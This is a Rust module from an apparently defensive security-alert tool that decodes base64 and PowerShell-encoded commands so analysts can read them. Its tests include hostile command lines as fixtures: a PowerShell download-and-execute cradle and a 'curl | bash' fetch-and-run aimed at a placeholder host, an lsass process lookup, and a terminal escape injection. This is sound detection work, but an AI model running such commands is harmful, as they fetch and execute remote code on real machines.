//! What attackers encode, decoded: PowerShell's `-EncodedCommand` (base64 of UTF-16LE) and
//! other base64 blobs in command lines. The decoded text is added to the alert as fields
//! under `soc_copilot.decoded.*` — bounded, sanitised and marked as decoded — so the analyst
//! reads it in the Alert tab and retrieval, the rules and the model see it.

use std::sync::LazyLock;

use base64::Engine as _;
use regex::Regex;

use super::Field;
use super::sanitize::bounded;

/// Longest decoded text kept per blob.
const MAX_DECODED: usize = 4096;
/// Blobs decoded per alert at most.
const MAX_BLOBS: usize = 4;
/// Where decoded text is kept.
pub const PREFIX: &str = "soc_copilot.decoded";

/// `-e`, `-en`, `-enc`, `-EncodedCommand` (and `/` forms) followed by base64.
static ENCODED_COMMAND: LazyLock<Option<Regex>> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:^|\s)[-/]e(?:n(?:c(?:o(?:d(?:e(?:d(?:c(?:o(?:m(?:m(?:a(?:n(?:d)?)?)?)?)?)?)?)?)?)?)?)?)?\s+([A-Za-z0-9+/]{8,}={0,2})").ok()
});
/// Any other run of base64 long enough not to be a word.
static BLOB: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{40,}={0,2}").ok());

fn utf16le(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 2 || !bytes.len().is_multiple_of(2) {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// Mostly printable ASCII: what a decoded command looks like, unlike random bytes (or
/// UTF-8 bytes misread as UTF-16, which come out as CJK characters).
fn readable(text: &str) -> bool {
    let n = text.chars().count();
    n >= 4
        && text
            .chars()
            .filter(|c| c.is_ascii_graphic() || c.is_ascii_whitespace())
            .count()
            * 10
            >= n * 9
}

fn decode(b64: &str) -> Option<Vec<u8>> {
    let e = base64::engine::general_purpose::STANDARD;
    e.decode(b64)
        .ok()
        .or_else(|| e.decode(b64.trim_end_matches('=')).ok())
        .or_else(|| {
            base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(b64.trim_end_matches('='))
                .ok()
        })
}

/// Decoded fields for the command lines (and other fields) of an alert.
pub fn decoded_fields(texts: &[&str]) -> Vec<Field> {
    let mut out: Vec<Field> = Vec::new();
    let mut seen: Vec<String> = Vec::new();
    let mut push = |kind: &str, b64: &str, text: String, out: &mut Vec<Field>| {
        if out.len() >= MAX_BLOBS || seen.iter().any(|s| s == b64) {
            return;
        }
        seen.push(b64.to_string());
        out.push(Field {
            path: format!("{PREFIX}.{}", out.len()),
            value: format!(
                "[decoded {kind}, not in the original alert] {}",
                bounded(text.trim(), MAX_DECODED)
            ),
        });
    };
    for text in texts {
        if let Some(re) = &*ENCODED_COMMAND {
            for c in re.captures_iter(text) {
                let b64 = &c[1];
                if let Some(t) = decode(b64)
                    .and_then(|b| utf16le(&b))
                    .filter(|t| readable(t))
                {
                    push("-EncodedCommand (base64, UTF-16LE)", b64, t, &mut out);
                }
            }
        }
        if let Some(re) = &*BLOB {
            for m in re.find_iter(text) {
                let b64 = m.as_str();
                let Some(bytes) = decode(b64) else { continue };
                let t = utf16le(&bytes)
                    .filter(|t| readable(t))
                    .or_else(|| String::from_utf8(bytes).ok().filter(|t| readable(t)));
                if let Some(t) = t {
                    push("base64", b64, t, &mut out);
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn b64_utf16(s: &str) -> String {
        let bytes: Vec<u8> = s.encode_utf16().flat_map(u16::to_le_bytes).collect();
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    #[test]
    fn encoded_commands_and_blobs_are_decoded_and_marked() {
        let cmd = format!(
            "powershell.exe -NoP -W Hidden -enc {}",
            b64_utf16("IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')")
        );
        let f = decoded_fields(&[&cmd]);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].path.starts_with(PREFIX));
        assert!(f[0].value.contains("DownloadString") && f[0].value.contains("decoded"));
        let long = format!(
            "powershell -EncodedCommand {}",
            b64_utf16("Get-Process lsass")
        );
        assert!(
            decoded_fields(&[&long])[0]
                .value
                .contains("Get-Process lsass")
        );
        let blob = format!(
            "bash -c \"echo {} | base64 -d | sh\"",
            base64::engine::general_purpose::STANDARD
                .encode("curl -s http://x.example/i.sh | bash # fetch and run the installer")
        );
        assert!(decoded_fields(&[&blob])[0].value.contains("curl -s"));
    }

    #[test]
    fn random_base64_and_escapes_are_not_passed_through() {
        // Random bytes do not read as text.
        let noise = "q83vEjRWeJq83vEjRWeJq83vEjRWeJq83vEjRWeJAAECAwQFBgcICQoLDA0ODw==";
        assert!(decoded_fields(&[noise]).is_empty());
        // Decoded text is sanitised like any alert text.
        let evil = format!(
            "powershell -enc {}",
            b64_utf16("echo \u{1b}]0;pwned\u{7} hi there")
        );
        let f = decoded_fields(&[&evil]);
        assert!(!f.is_empty() && !f[0].value.contains('\u{1b}'), "{f:?}");
    }
}
